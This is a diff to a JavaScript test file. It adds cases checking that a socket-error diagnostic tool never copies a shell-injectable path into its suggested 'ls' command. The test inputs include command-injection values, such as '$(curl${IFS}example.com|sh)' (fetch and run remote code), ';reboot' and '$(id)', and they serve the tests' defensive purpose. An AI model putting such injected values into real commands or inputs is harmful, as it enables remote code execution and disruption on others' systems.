@@ -42,6 +42,15 @@ describe('a call over a file of the machine', () => {
   });
 
   test.each([
+    ['connect ENOENT /tmp/redis.sock', 'ls -l /tmp/redis.sock'],
+    ['connect ENOENT /tmp/$(curl${IFS}example.com|sh)', 'ls -l /var/run /tmp'],
+    ['connect ENOENT /tmp/a;reboot', 'ls -l /var/run /tmp'],
+    ['dial unix /run/$(id).sock: connect: no such file or directory', 'ls -l /var/run /tmp'],
+  ])('puts no path into a command that a shell would take for more: %s', (text, command) => {
+    expect(diagnose(text).missing?.commands).toEqual([command]);
+  });
+
+  test.each([
     'psycopg2.OperationalError: could not connect to server: No such file or directory\n\tIs the server running locally and accepting\n\tconnections on Unix domain socket "/var/run/postgresql/.s.PGSQL.5432"?',
     'connection to server on socket "/var/run/postgresql/.s.PGSQL.5432" failed: No such file or directory\n\tIs the server running locally and accepting connections on that socket?',
     "ERROR 2002 (HY000): Can't connect to local MySQL server through socket '/var/run/mysqld/mysqld.sock' (2)",
